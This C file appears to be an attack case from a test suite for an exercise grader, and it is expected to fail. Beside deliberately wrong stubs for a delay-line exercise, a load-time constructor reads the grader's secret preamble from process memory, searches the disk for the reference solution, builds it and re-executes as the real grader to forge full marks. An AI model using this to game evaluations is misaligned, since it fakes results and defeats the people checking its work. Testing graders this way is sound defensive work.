/* A forger with nothing of the work (the skeleton's stubs): a constructor
   looks for the full sim2real.h on the grading machine (next to where the
   grader was started, then anywhere 6 folders deep), compiles the
   reference from its solution blocks with the check's grader, and
   re-executes as that grader, fed the preamble it finds in its own memory:
   a genuine reference reply, full marks on a seeded run.  A check sees no
   repository and no home, so it finds nothing, and the stubs score 0.
   fails: all */
#define _GNU_SOURCE
#define ATK_EXERCISE "latency"
/* ---- attack: re-exec into a grader built at run time on the reference
   solution found on the grading machine (the repository is not hidden
   during a check, only during the compile).  The preamble (token, mode,
   check, seed) is found in this process's memory; it is fed on fd 4 to
   the freshly built reference grader, which writes a genuine reply with
   the seeded inputs to fd 3. ---- */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <fcntl.h>
#include <sys/wait.h>

static const char* atk_find_preamble(size_t* len) {
    FILE* m = fopen("/proc/self/maps", "r");
    char line[512];
    if (!m) return NULL;
    while (fgets(line, sizeof line, m)) {
        unsigned long a, b; char perm[8];
        if (sscanf(line, "%lx-%lx %7s", &a, &b, perm) != 3 || perm[0] != 'r' || perm[1] != 'w') continue;
        for (char* p = (char*)a; p + 40 < (char*)b; p++) {
            int i;
            if (p[32] != '\n') continue;
            for (i = 0; i < 32; i++) if (!((p[i] >= '0' && p[i] <= '9') || (p[i] >= 'a' && p[i] <= 'f'))) break;
            if (i < 32 || memcmp(p + 33, "check\n", 6) != 0) continue;
            if (p > (char*)a && ((p[-1] >= '0' && p[-1] <= '9') || (p[-1] >= 'a' && p[-1] <= 'f'))) continue;
            char* e = strstr(p, "\nEND\n");
            if (!e) continue;
            *len = (size_t)(e + 5 - p);
            fclose(m);
            return p;
        }
    }
    fclose(m);
    return NULL;
}

static const char atk_script[] =
"EX=\"$1\"; D=\"$2\"; P=\"$3\"; H=''\n"
"for c in \"$P/sim2real.h\" \"$P/../sim2real.h\" $(find / -maxdepth 6 \\( -path /proc -o -path /sys -o -path /dev -o -path /usr -o -path /var -o -path /tmp \\) -prune -o -name sim2real.h -type f -print 2>/dev/null); do\n"
"  [ -r \"$c\" ] || continue\n"
"  awk -v n=\"$EX\" '$0==\"/* >> solution \" n \" begin */\"{i=1;s=1;next} $0==\"/* >> solution \" n \" end */\"{i=0} i&&/TODO\\(course/{t=1} END{exit !(s&&!t)}' \"$c\" && { H=$c; break; }\n"
"done\n"
"[ -n \"$H\" ] || exit 1\n"
"awk -v n=\"$EX\" '$0==\"/* >> solution \" n \" begin */\"{i=1;next} $0==\"/* >> solution \" n \" end */\"{i=0} i{print}' \"$H\" > blocks.c\n"
"{ echo '#include <assert.h>'; echo '#include <stdlib.h>'; echo '#include <string.h>'; echo '#include <math.h>'; echo '#include <float.h>'; echo '#include <limits.h>'; echo '#include <stdint.h>'; echo '#include <stdio.h>'\n"
"  echo \"#include \\\"$H\\\"\"\n"
"  echo '#ifndef S2R_ASSERT'; echo '#define S2R_ASSERT(x) assert(x)'; echo '#endif'\n"
"  echo '#ifndef S2R_FREE'; echo '#define S2R_FREE(p) free(p)'; echo '#endif'\n"
"  echo '#ifndef S2R_MALLOC'; echo '#define S2R_MALLOC(n) malloc(n)'; echo '#endif'\n"
"  for h in $(grep -o 's2r__[a-z_0-9]*' blocks.c | sort -u); do\n"
"    grep -q \"^static[^;(]*[ *]$h(\" blocks.c && continue\n"
"    awk -v h=\"$h\" 'BEGIN{re=\"^static[^;(]*[ *]\" h \"\\\\(\"} !s && $0 ~ re && $0 !~ /\\);[ ]*$/ {s=1} s{print} s && /^}/{exit} s && /}[ ]*$/ && /{/{exit}' \"$H\" > h_$h.c\n"
"    grep -q . h_$h.c && head -n 1 h_$h.c | sed 's/ *{.*$/;/' >> protos.c\n"
"  done\n"
"  [ -f protos.c ] && cat protos.c; cat h_*.c 2>/dev/null; cat blocks.c; } > ref.c\n"
"extra=''; [ -f \"$D/stand_ins.c\" ] && extra=\"$D/stand_ins.c\"\n"
"cc -std=c99 -O2 -fopenmp -I\"$D\" -I/usr/include/stb -w \"$D/grade.c\" ref.c $extra \"$D/library.o\" -o refgrade -lmujoco -lm\n";

__attribute__((constructor)) static void atk_reexec(void) {
    size_t len = 0;
    char exe[4096], dir[4096], *slash;
    ssize_t n;
    const char* pre = atk_find_preamble(&len);
    pid_t p;
    int st, fd;
    if (!pre) return;
    n = readlink("/proc/self/exe", exe, sizeof exe - 1);
    if (n <= 0) return;
    exe[n] = 0;
    snprintf(dir, sizeof dir, "%s", exe);
    if (!(slash = strrchr(dir, '/'))) return;
    *slash = 0;
    fd = open("pre.txt", O_WRONLY | O_CREAT | O_TRUNC, 0600);
    if (fd < 0 || write(fd, pre, len) != (ssize_t)len) return;
    close(fd);
    p = fork();
    if (p == 0) {
        int null = open("/dev/null", O_WRONLY);
        dup2(null, 1); dup2(null, 2); close(3);
        execl("/bin/sh", "sh", "-c", atk_script, "sh", ATK_EXERCISE, dir, getenv("PWD") ? getenv("PWD") : "/", (char*)NULL);
        _exit(127);
    }
    if (p < 0 || waitpid(p, &st, 0) != p || !WIFEXITED(st) || WEXITSTATUS(st) != 0) return;
    fd = open("pre.txt", O_RDONLY);
    if (fd < 0) return;
    if (fd != 4) { dup2(fd, 4); close(fd); }
    execl("./refgrade", "refgrade", "--worker", (char*)NULL);
}
#include "sim2real.h"
#include <stdlib.h>
#include <string.h>

/* >> stub begin */
/* TODO(course 1_latency): replace every body below with yours.  Until
   then a delay line cannot be made (s2r_delay_init fails), so a simulator
   built on this copy of the library refuses to start with that error. */
S2RDEF s2r_result s2r_delay_init(s2r_delay_line* line, int width, int capacity) {
    line->data = NULL;
    line->width = line->capacity = line->newest = 0;
    (void)width; (void)capacity;
    return S2R_ERR_UNSUPPORTED;
}

S2RDEF void s2r_delay_free(s2r_delay_line* line) {
    (void)line;
}

S2RDEF void s2r_delay_reset(s2r_delay_line* line, const double* fill) {
    (void)line; (void)fill;
}

S2RDEF void s2r_delay_push(s2r_delay_line* line, const double* x) {
    (void)line; (void)x;
}

S2RDEF const double* s2r_delay_peek(const s2r_delay_line* line, int k) {
    (void)k;
    return line->data;   /* wrong: always the first slot */
}

S2RDEF void s2r_delay_read(const s2r_delay_line* line, int k, double* out) {
    (void)line; (void)k; (void)out;
}

S2RDEF void s2r_delay_jitter_init(s2r_delay_jitter* j, int base_steps, int jitter_steps, int max_steps) {
    j->base = base_steps; j->jitter = jitter_steps; j->max = max_steps; j->last = 0;
}

S2RDEF void s2r_delay_jitter_reset(s2r_delay_jitter* j) {
    (void)j;
}

S2RDEF int s2r_delay_jitter_next(s2r_delay_jitter* j, s2r_rng* rng) {
    (void)j; (void)rng;
    return 0;   /* wrong: no delay at all */
}
/* >> stub end */
